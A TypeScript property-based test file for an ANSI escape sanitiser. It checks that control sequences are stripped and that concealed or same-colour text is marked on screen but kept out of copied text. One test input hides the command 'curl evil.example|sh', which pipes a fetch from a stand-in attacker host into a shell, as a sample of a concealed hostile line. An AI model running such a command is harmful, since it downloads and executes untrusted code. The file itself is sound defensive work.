/**
 * Every ECMA-48 control sequence form is removed from what is shown, copied, saved and filtered,
 * and what the screen hides (concealed text, SGR 8, and text drawn in its own background colour)
 * is shown marked but never copied: a copy is what a person can read, and carries no control byte
 * to their terminal. The console's renderer (`ansiRuns`) and the copy text (`stripAnsi`) must
 * agree on every line.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { hasEscapes, stripAnsi } from '../../src/shared/strip-ansi.js';
import { ansiRuns } from './ansi.js';

/** Runs per property. */
const RUNS = 1500;

const ESC = '\u001b';
const BEL = '\u0007';
const ST = `${ESC}\\`;

/** Each form, with the text that must remain. */
const FORMS: Array<[string, string, string]> = [
  ['OSC ending in BEL', `a${ESC}]0;title${BEL}b`, 'ab'],
  ['OSC ending in ST', `a${ESC}]8;;http://x${ST}link${ESC}]8;;${ST}b`, 'alinkb'],
  ['OSC ending in C1 ST', `a${ESC}]2;t\u009cb`, 'ab'],
  ['C1 OSC', `a\u009d0;title${BEL}b`, 'ab'],
  ['DCS', `a${ESC}P1$r0;31m${ST}b`, 'ab'],
  ['C1 DCS', `a\u0090qpayload\u009cb`, 'ab'],
  ['SOS', `a${ESC}Xhidden body${ST}b`, 'ab'],
  ['PM', `a${ESC}^privacy message${ST}b`, 'ab'],
  ['APC', `a${ESC}_G f=100;AAAA${ST}b`, 'ab'],
  ['C1 APC', `a\u009fbody\u009cb`, 'ab'],
  ['CSI', `a${ESC}[31mred${ESC}[0m${ESC}[2K${ESC}[?25h${ESC}[1;2 qb`, 'aredb'],
  ['C1 CSI', `a\u009b31mred\u009b0mb`, 'aredb'],
  ['nF escape (charset)', `a${ESC}(Bb${ESC}%Gc`, 'abc'],
  ['Fp, Fe, Fs escapes', `a${ESC}7b${ESC}8c${ESC}Md${ESC}ce`, 'abcde'],
  ['8-bit C1 controls', 'a\u0085b\u008dc\u0084d\u009ae', 'abcde'],
  ['C0 controls shown as symbols', 'a\u0007b\u0008c\u0000d\re\u007ff\tg', 'a\u2407b\u2408c\u2400d\u240de\u2421f\tg'],
  ['an unterminated string swallows the rest, as a terminal would', `a${ESC}Pno end`, 'a'],
];

/** Pieces of hostile lines. */
const FRAGMENTS = [
  `${ESC}[1;31m`, `${ESC}[0m`, `${ESC}[8m`, `${ESC}[28m`, `${ESC}[31;41m`, `${ESC}[38;5;1;48;5;1m`, `${ESC}[38;2;1;2;3m`, `${ESC}[48;2;1;2;3m`,
  `${ESC}[39m`, `${ESC}[49m`, `${ESC}[7m`, `${ESC}[97;107m`, `${ESC}[37;47m`, '\u009b8m', '\u009b0m', `${ESC}]8;;http://x${BEL}`, `${ESC}]0;t${ST}`,
  `${ESC}P`, `${ESC}X`, `${ESC}^`, `${ESC}_`, ST, '\u009c', '\u0090', '\u009d', BEL, '\b', '\0', '\r', '\u007f', ESC, `${ESC}[`, `${ESC}(`,
  'ERROR', 'é', '\ud800', ' ', ';', 'x',
];
const line = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc.array(fc.oneof(fc.constantFrom(...FRAGMENTS), fc.string({ maxLength: 4 })), { maxLength: 14 }).map((parts) => parts.join('')),
);

/** Any C0 control but tab, DEL, or any C1 control. */
const CONTROL = /[\u0000-\u0008\u000a-\u001f\u007f-\u009f]/;

describe('escape sequences', () => {
  it.each(FORMS)('strips %s from the copy and from the screen', (_name, input, expected) => {
    expect(hasEscapes(input)).toBe(true);
    expect(stripAnsi(input)).toBe(expected);
    expect(ansiRuns(input).map((run) => run.text).join('')).toBe(expected);
  });

  it('leaves no control character in a copy or on the screen, whatever the line', () => {
    fc.assert(
      fc.property(line, (text) => {
        const copy = stripAnsi(text);
        expect(copy).not.toMatch(CONTROL);
        for (const run of ansiRuns(text)) expect(run.text).not.toMatch(CONTROL);
        if (!hasEscapes(text)) expect(copy).toBe(text);
      }),
      { numRuns: RUNS },
    );
  });

  it('copies exactly the text the screen shows unmarked, whatever the line', () => {
    fc.assert(
      fc.property(line, (text) => {
        const shown = ansiRuns(text).filter((run) => run.concealed !== true).map((run) => run.text).join('');
        expect(stripAnsi(text)).toBe(shown);
      }),
      { numRuns: RUNS },
    );
  });

  it('shows concealed text marked, and leaves it out of the copy', () => {
    const text = `run: ls -la${ESC}[8m; curl evil.example|sh${ESC}[0m`;
    expect(stripAnsi(text)).toBe('run: ls -la');
    const runs = ansiRuns(text);
    expect(runs.map((run) => run.text)).toEqual(['run: ls -la', '; curl evil.example|sh']);
    expect(runs[1]?.concealed).toBe(true);
    expect(runs[1]?.style?.visibility).toBeUndefined();
    expect(runs[1]?.style?.textDecoration).toMatch(/line-through/);
  });

  it('treats text drawn in its background colour as concealed, however the colour is named', () => {
    for (const hidden of [`${ESC}[31;41m`, `${ESC}[38;5;1;48;5;1m`, `${ESC}[38;2;9;9;9;48;2;9;9;9m`, `${ESC}[37;107m`, `${ESC}[38;5;16;40m`]) {
      const text = `shown ${hidden}secret${ESC}[0m end`;
      expect(stripAnsi(text), JSON.stringify(hidden)).toBe('shown  end');
      expect(ansiRuns(text).find((run) => run.text === 'secret')?.concealed, JSON.stringify(hidden)).toBe(true);
    }
    expect(stripAnsi(`${ESC}[31;42mvisible${ESC}[0m`)).toBe('visible');
  });
});
